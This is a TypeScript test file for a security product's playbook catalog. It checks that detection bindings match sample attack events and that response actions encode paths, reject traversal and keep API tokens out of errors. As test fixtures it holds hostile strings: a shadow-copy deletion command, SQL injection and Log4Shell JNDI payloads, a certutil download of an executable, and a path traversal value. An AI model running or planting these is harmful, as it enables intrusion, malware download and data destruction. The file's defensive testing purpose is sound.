import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { systemClock } from "../../../../../src/base/clock.ts";
import type { SecurityEvent } from "../../../../../src/engines/events/index.ts";
import { type Catalog, openCatalog } from "../../../../../src/engines/playbook/index.ts";
import type { ActionContext, ActionSettings, PlaybookModule } from "../../../../../src/engines/playbook/sdk/index.ts";
import { event } from "./folders.ts";

/** The playbooks and bindings that ship with the product. */
describe("the starter content", () => {
  let catalog: Catalog;

  before(async () => {
    const opened = await openCatalog({ playbooks: ["playbooks"], rules: ["rules"], clock: systemClock });
    await opened.close();
    catalog = opened.current();
  });

  const playbookOf = async (id: string): Promise<PlaybookModule> => {
    const code = catalog.playbooks.get(id)?.code ?? "";
    const loaded = (await import(`data:text/javascript,${encodeURIComponent(code)}`)) as { default: PlaybookModule };
    return loaded.default;
  };

  it("loads without a problem, and every playbook of it is used", () => {
    assert.deepEqual(catalog.problems, []);
    const used = new Set(catalog.bindings.flatMap(({ run }) => run));
    assert.deepEqual([...catalog.playbooks.keys()].sort(), [...used].sort());
  });

  const windows = { logsource: { product: "windows", category: "process_creation" } } as const;
  const cases: readonly (readonly [string, Partial<SecurityEvent>])[] = [
    ["ransomware-reported", { kind: "ransomware", data: { host: "pc1" } }],
    ["ransomware-shadow-copies", { ...windows, data: { CommandLine: "vssadmin.exe delete shadows /all /quiet" } }],
    ["mining-reported", { kind: "mining" }],
    ["mining-pool", { kind: "other", data: { url: { original: "stratum+tcp://pool.example:3333" } } }],
    ["brute-force", { kind: "network-attack", data: { rule: { name: "SSH Brute Force" } } }],
    ["web-attack", { kind: "network-attack", data: { url: "/item?id=1%20UNION%20SELECT%20password" } }],
    ["web-attack", { kind: "network-attack", data: { url: "/?x=${jndi:ldap://a}" } }],
    ["malware-reported", { kind: "virus-intrusion" }],
    [
      "malware-download",
      { ...windows, data: { Image: "C:\\Windows\\certutil.exe", CommandLine: "certutil -urlcache -f http://h/a.exe" } },
    ],
    [
      "lateral-movement",
      {
        logsource: { product: "windows", service: "system" },
        data: { EventID: 7045, ServiceName: "PSEXESVC", ImagePath: "%SystemRoot%\\PSEXESVC.exe" },
      },
    ],
  ];
  for (const [id, facts] of cases) {
    it(`chooses by ${id} for ${JSON.stringify(facts.data ?? facts.kind)}`, () => {
      const chosen = catalog.choose(event({ kind: "log", ...facts }));
      assert.ok(
        chosen.some(({ binding }) => binding.id === id),
        chosen.map(({ binding }) => binding.id).join(),
      );
    });
  }

  it("chooses nothing for an ordinary event", () => {
    assert.deepEqual(
      catalog.choose(event({ kind: "log", ...windows, data: { CommandLine: "notepad.exe a.txt" } })),
      [],
    );
    assert.deepEqual(catalog.choose(event({ kind: "network-attack", data: { url: "/index.html?union=1" } })), []);
  });

  it("never blocks an address of the site's own networks", async () => {
    const { filters } = await playbookOf("block-address");
    const isForeign = (address: string) => filters?.["names-a-foreign-address"]?.(event({ data: { src_ip: address } }));
    for (const own of ["10.1.2.3", "192.168.0.1", "127.0.0.1", "::1", "fe80::1", "::ffff:10.0.0.1", "no address", ""]) {
      assert.equal(isForeign(own), false, own);
    }
    for (const foreign of ["203.0.113.7", "2001:db8::7"]) assert.equal(isForeign(foreign), true, foreign);
  });

  describe("its actions", () => {
    let server: Server;
    let asked: { readonly line: string; readonly headers: unknown; readonly body: string }[];
    let status = 200;

    before(async () => {
      server = createServer((request, response) => {
        let body = "";
        request.on("data", (chunk: Buffer) => (body += chunk.toString()));
        request.on("end", () => {
          const { authorization, "idempotency-key": key } = request.headers;
          asked.push({ line: `${request.method} ${request.url}`, headers: [authorization, key], body });
          response.writeHead(status, { location: "/elsewhere" }).end(`{"ok": true}`);
        });
      });
      await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    });
    beforeEach(() => {
      asked = [];
      status = 200;
    });
    after(() => new Promise((resolve) => server.close(resolve)));

    /** Executes an action as a thread would. */
    const act = async (id: string, name: string, input: object): Promise<unknown> => {
      const playbook = await playbookOf(id);
      const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/api`;
      const context: ActionContext = {
        signal: AbortSignal.timeout(5_000),
        idempotencyKey: "run-1/1",
        runId: "run-1",
        step: 1,
        secret: (secret) => {
          assert.ok(playbook.secrets?.includes(secret), `${id} does not declare ${secret}`);
          return secret.endsWith("-url") ? base : `the ${secret}`;
        },
        log: () => undefined,
      };
      const action = playbook.actions[name] as ActionSettings<object>;
      return action.run(input, context);
    };

    it("ask the API that the secrets name, each part of a path as one part", async () => {
      await act("block-address", "block", { address: "2001:db8::7", hours: 24, reason: "r" });
      await act("contain-host", "observe", { host: "../../admin", what: "processes" });
      await act("collect-context", "look", { of: "files", value: "ab" });
      assert.deepEqual(
        asked.map(({ line }) => line),
        ["PUT /api/blocks/2001%3Adb8%3A%3A7", "GET /api/hosts/..%2F..%2Fadmin/processes", "GET /api/files/ab"],
      );
      await assert.rejects(act("contain-host", "observe", { host: "..", what: "admin" }), /no part of a path/);
      assert.equal(asked.length, 3);
      assert.deepEqual(asked[0]?.headers, ["Bearer the firewall-api-token", "run-1/1"]);
      assert.deepEqual(JSON.parse(asked[0].body), { hours: 24, reason: "r" });
    });

    it("fail when the API refuses or sends elsewhere, without telling the token", async () => {
      for (const refusal of [500, 302]) {
        status = refusal;
        await assert.rejects(act("open-ticket", "open", { title: "t" }), (thrown: Error) => {
          assert.equal(thrown.message.includes("ticket-api-token"), false);
          return true;
        });
      }
      assert.equal(asked.length, 2);
    });
  });
});
